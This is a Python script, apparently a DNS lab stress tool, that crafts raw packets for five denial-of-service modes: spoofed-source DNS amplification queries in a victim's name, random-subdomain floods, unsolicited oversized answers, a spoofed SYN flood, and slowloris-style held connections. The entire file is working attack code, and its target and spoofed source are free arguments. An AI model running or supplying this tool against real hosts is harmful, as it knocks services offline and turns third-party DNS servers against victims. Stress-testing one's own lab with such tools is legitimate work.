#!/usr/bin/env python3
"""Sends packets that no well-behaved program would: under other hosts' addresses, or half a handshake.

packets.py reflect|torture|unasked|syn|hold …; needs root, and a network where nobody minds.
"""

import argparse
import random
import socket
import struct
import time

A, NS, TXT, DNSKEY, ANY = 1, 2, 16, 48, 255


def name(text):
    return b"".join(bytes([len(label)]) + label for label in text.encode().split(b".")) + b"\0"


def question(number, text, qtype, edns=0, flags=0x0100):
    extra = struct.pack(">BHHIH", 0, 41, edns, 0x8000, 0) if edns else b""
    head = struct.pack(">HHHHHH", number, flags, 1, 0, 0, 1 if edns else 0)
    return head + name(text) + struct.pack(">HH", qtype, 1) + extra


def answer(number, text, records, flags=0x8180, qtype=None):
    """An answer whose records are (type, seconds to live, data)."""
    head = struct.pack(">HHHHHH", number, flags, 1, len(records), 0, 0)
    body = name(text) + struct.pack(">HH", qtype or (records[0][0] if records else A), 1)
    for qtype, ttl, data in records:
        body += struct.pack(">HHHIH", 0xC00C, qtype, 1, ttl, len(data)) + data
    return head + body


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Sender:
    """Writes IP packets as they are; the kernel adds length and checksum."""

    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def ip(self, source, to, protocol, body, number=None, at=0):
        """Sends `body`; with `at`, as the last fragment of datagram `number`, behind so many octets."""
        number = random.randrange(65536) if number is None else number
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), number, at // 8, 64,
                           protocol, 0, socket.inet_aton(source), socket.inet_aton(to))
        self.socket.sendto(head + body, (to, 0))

    def udp(self, source, sport, to, port, payload):
        self.ip(source, to, 17, struct.pack(">HHHH", sport, port, 8 + len(payload), 0) + payload)

    def syn(self, source, sport, to, port):
        tcp = struct.pack(">HHIIBBHHH", sport, port, random.getrandbits(32), 0, 0x50, 2, 8192, 0, 0)
        pseudo = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack(">BBH", 0, 6, 20)
        sum_ = struct.pack(">H", checksum(pseudo + tcp))
        self.ip(source, to, 6, tcp[:16] + sum_ + tcp[18:])


def anywhere(rng):
    """An address outside: of the ranges for benchmarks and examples."""
    return rng.choice(["198.18", "198.19"]) + f".{rng.randrange(256)}.{rng.randrange(1, 255)}"


def paced(count, rate):
    began = time.monotonic()
    for n in range(count):
        time.sleep(max(0.0, began + n / rate - time.monotonic()))
        yield n


def reflect(given, rng, sender):
    """Questions with large answers, in the name of the victim."""
    for n in paced(given.count, given.rate):
        qtype = (ANY, TXT, DNSKEY)[n % 3] if given.mix else ANY
        packet = question(rng.randrange(65536), given.name, qtype, 4096)
        sender.udp(given.source, rng.randrange(1024, 65536), given.to, 53, packet)


def torture(given, rng, sender):
    """Random names below one domain, in the name of hosts anywhere or of those of one network."""
    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
    for _ in paced(given.count, given.rate):
        label = "".join(rng.choices(letters, k=rng.randint(8, 14)))
        source = f"{given.net}.{rng.randrange(100, 250)}" if given.net else anywhere(rng)
        packet = question(rng.randrange(65536), f"{label}.{given.name}", A)
        sender.udp(source, rng.randrange(1024, 65536), given.to, 53, packet)


def unasked(given, rng, sender):
    """Large answers that nobody asked for, from many servers."""
    servers = [anywhere(rng) for _ in range(given.servers)]
    text = b"\xff" + b"x" * 255
    for _ in paced(given.count, given.rate):
        packet = answer(rng.randrange(65536), given.name, [(TXT, 300, text * 4)])
        sender.udp(rng.choice(servers), 53, given.to, rng.randrange(1024, 65536), packet)


def syn(given, rng, sender):
    """First packets of connections that nobody means to open."""
    for _ in paced(given.count, given.rate):
        sender.syn(anywhere(rng), rng.randrange(1024, 65536), given.to, 53)


def hold(given, _rng, _sender):
    """Connections that are opened, half of them with half a question, and held."""
    held = []
    for n in paced(given.count, given.rate):
        connection = socket.create_connection((given.to, 53), timeout=5)
        if n % 2:
            connection.sendall(b"\0\x20\0\x01")
        held.append(connection)
    time.sleep(given.seconds)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("what", choices=["reflect", "torture", "unasked", "syn", "hold"])
    parser.add_argument("--to", required=True, help="the host that gets the packets")
    parser.add_argument("--source", help="the host in whose name they are sent")
    parser.add_argument("--net", help="first three octets of the hosts in whose name they are sent")
    parser.add_argument("--name", default="signed-lab.org")
    parser.add_argument("--count", type=int, default=300)
    parser.add_argument("--rate", type=float, default=30, help="packets a second")
    parser.add_argument("--servers", type=int, default=80)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--mix", action="store_true", help="several types")
    given = parser.parse_args()
    rng = random.Random(53)
    raw = given.what != "hold"
    {"reflect": reflect, "torture": torture, "unasked": unasked, "syn": syn, "hold": hold}[given.what](
        given, rng, Sender() if raw else None)


if __name__ == "__main__":
    main()
